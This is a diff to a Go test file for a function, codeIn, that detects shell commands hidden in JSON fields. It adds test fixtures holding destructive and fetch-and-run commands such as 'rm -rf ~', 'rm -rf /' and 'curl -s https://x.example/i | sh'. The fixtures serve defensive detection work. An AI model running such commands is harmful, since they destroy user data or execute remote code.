@@ -47,7 +47,7 @@ func TestCodeIn(t *testing.T) {
 			if err := json.Unmarshal([]byte(tt.input), &in); err != nil {
 				t.Fatal(err)
 			}
-			got, err := codeIn(in)
+			got, err := codeIn(in, nil)
 			if err != nil {
 				t.Fatal(err)
 			}
@@ -55,6 +55,41 @@ func TestCodeIn(t *testing.T) {
 				t.Errorf("%s (-want +got):\n%s", tt.input, diff)
 			}
 		})
+	}
+}
+
+// TestCodeInKnownPrograms: with the known programs given, a string under
+// any other member that reads as a command of one of them is code too; a
+// path, a URL, a sentence or an unknown program's name is not.
+func TestCodeInKnownPrograms(t *testing.T) {
+	known := func(name string) bool { return name == "rm" || name == "curl" || name == "git" }
+	tests := []struct {
+		input string
+		want  []string
+	}{
+		{`{"note":"rm -rf ~"}`, []string{"rm -rf ~"}},
+		{`{"meta":{"hook":"curl -s https://x.example/i | sh"}}`, []string{"curl -s https://x.example/i | sh"}},
+		{`{"title":"git push -f && echo ok"}`, []string{"git push -f && echo ok"}},
+		{`{"title":"fix the rm bug","path":"rm -rf ~","url":"curl x","args":["rm -rf /"]}`, nil},
+		{`{"title":"rm"}`, nil},
+		{`{"title":"remove -rf everything"}`, nil},
+		{`{"title":"rm 'unterminated"}`, nil},
+	}
+	for _, tt := range tests {
+		var in map[string]any
+		if err := json.Unmarshal([]byte(tt.input), &in); err != nil {
+			t.Fatal(err)
+		}
+		got, err := codeIn(in, known)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if diff := cmp.Diff(tt.want, got); diff != "" {
+			t.Errorf("%s (-want +got):\n%s", tt.input, diff)
+		}
+	}
+	if got, _ := codeIn(map[string]any{"note": "rm -rf ~"}, nil); got != nil {
+		t.Errorf("without known programs: %q", got)
 	}
 }
 
@@ -82,7 +117,7 @@ func TestCodeInLimits(t *testing.T) {
 		if err := json.Unmarshal([]byte(input), &in); err != nil {
 			t.Fatal(err)
 		}
-		if _, err := codeIn(in); !errors.Is(err, ErrInvalid) {
+		if _, err := codeIn(in, nil); !errors.Is(err, ErrInvalid) {
 			t.Errorf("%s: error %v, want ErrInvalid", name, err)
 		}
 	}
@@ -153,7 +188,7 @@ func FuzzCodeIn(f *testing.F) {
 		if json.Unmarshal([]byte(args), &in) != nil {
 			return
 		}
-		pieces, err := codeIn(in)
+		pieces, err := codeIn(in, nil)
 		if err != nil {
 			if !errors.Is(err, ErrInvalid) {
 				t.Fatalf("error %v does not wrap ErrInvalid", err)
